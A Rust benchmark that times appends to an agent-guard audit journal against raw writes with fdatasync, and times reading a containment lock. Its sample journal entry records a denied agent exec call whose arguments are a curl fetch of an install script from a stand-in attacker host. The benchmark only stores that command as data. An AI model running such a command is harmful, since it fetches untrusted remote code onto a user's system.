//! What an append costs, beside a raw write and `fdatasync` of the same bytes in the same run, and what the gate pays to
//! read the containment lock. Prints; judges nothing.
#![allow(clippy::print_stdout, clippy::disallowed_methods, reason = "a benchmark prints what it measured")]

use std::fs::{File, OpenOptions};
use std::io::Write as _;
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant};

use stockade_core::{Decision, Denial, Redactor, Rule, SessionKey, Stage, SystemClock, TurnId};
use stockade_store::{Entry, Journal, containment, journal};

fn main() {
    println!("{:<44} {:>9} {:>9} {:>9} {:>11}", "journal", "p50 µs", "p99 µs", "max µs", "records/s");
    for threads in [1, 4, 16] {
        compare(threads);
    }
    let dir = folder();
    let lock = sample(20_000, || assert!(containment::read(dir.path()).is_open()));
    row("containment lock, read (absent)", &lock, Duration::ZERO);
}

/// The same number of threads appends to a journal, and to a file that each write syncs.
fn compare(threads: usize) {
    let dir = folder();
    let open = Journal::open(dir.path(), Redactor::new([]), Arc::new(SystemClock)).expect("opens");
    let (appends, took) = together(threads, || assert!(open.append(entry()).is_ok()));
    drop(open);
    let written = std::fs::metadata(dir.path().join(journal::FILE)).expect("there").len();
    let start = Instant::now();
    assert_eq!(journal::verify(dir.path()).expect("verifies").records, appends.len() as u64);
    let verified = start.elapsed().as_secs_f64() / appends.len() as f64;
    let line = vec![b'x'; usize::try_from(written).unwrap_or(0) / appends.len()];
    let file = raw(&dir.path().join("raw"));
    let (writes, raw_took) = together(threads, || {
        (&file).write_all(&line).expect("writes");
        file.sync_data().expect("syncs");
    });
    row(&format!("append, {threads} at a time, {} bytes", line.len()), &appends, took);
    row(&format!("raw write + fdatasync, {threads} at a time"), &writes, raw_took);
    println!(
        "{:<44} {:>9.2} {:>9.2}",
        "  ratio",
        percentile(&appends, 50) / percentile(&writes, 50),
        percentile(&appends, 99) / percentile(&writes, 99)
    );
    println!("{:<44} {:>9.1}", "  verify, per record", verified * 1e6);
}

/// Runs `act` [`ROUNDS`] times from several threads; the time of each, sorted, and of all.
fn together(threads: usize, act: impl Fn() + Sync) -> (Vec<Duration>, Duration) {
    let start = Instant::now();
    let mut times: Vec<Duration> = std::thread::scope(|scope| {
        let running: Vec<_> = (0..threads).map(|_| scope.spawn(|| sample(ROUNDS / threads, &act))).collect();
        running.into_iter().flat_map(|thread| thread.join().expect("ran")).collect()
    });
    times.sort_unstable();
    (times, start.elapsed())
}

fn sample(rounds: usize, act: impl Fn()) -> Vec<Duration> {
    let mut times: Vec<Duration> = (0..rounds)
        .map(|_| {
            let start = Instant::now();
            act();
            start.elapsed()
        })
        .collect();
    times.sort_unstable();
    times
}

fn row(name: &str, times: &[Duration], took: Duration) {
    let max = percentile(times, 100);
    print!("{name:<44} {:>9.1} {:>9.1} {max:>9.1}", percentile(times, 50), percentile(times, 99));
    if took.is_zero() {
        println!();
    } else {
        println!(" {:>11.0}", times.len() as f64 / took.as_secs_f64());
    }
}

/// In microseconds.
fn percentile(sorted: &[Duration], percent: usize) -> f64 {
    sorted[(sorted.len() - 1) * percent / 100].as_secs_f64() * 1e6
}

/// What the judge records about an exec call.
fn entry() -> Entry {
    Entry {
        turn: Some(TurnId::fresh()),
        session: SessionKey::parse("agent:main:main").ok(),
        decision: Some(Decision::Deny(Denial::policy(Rule::ExecAllowlist, "no entry of the allowlist matches"))),
        detail: serde_json::json!({ "tool": "exec", "argv": ["curl", "-fsSL", "http://attacker.example/install.sh"] }),
        ..Entry::new(Stage::Decision, "device 0123456789ab (cli)")
    }
}

fn raw(path: &Path) -> File {
    OpenOptions::new().create(true).append(true).open(path).expect("opens")
}

/// On the disk that the build is on: `/tmp` may be memory, where a sync costs nothing.
fn folder() -> tempfile::TempDir {
    let target = Path::new(env!("CARGO_TARGET_TMPDIR"));
    let private = std::os::unix::fs::PermissionsExt::from_mode(0o700);
    tempfile::Builder::new().permissions(private).tempdir_in(target).expect("a folder")
}

const ROUNDS: usize = 1600;
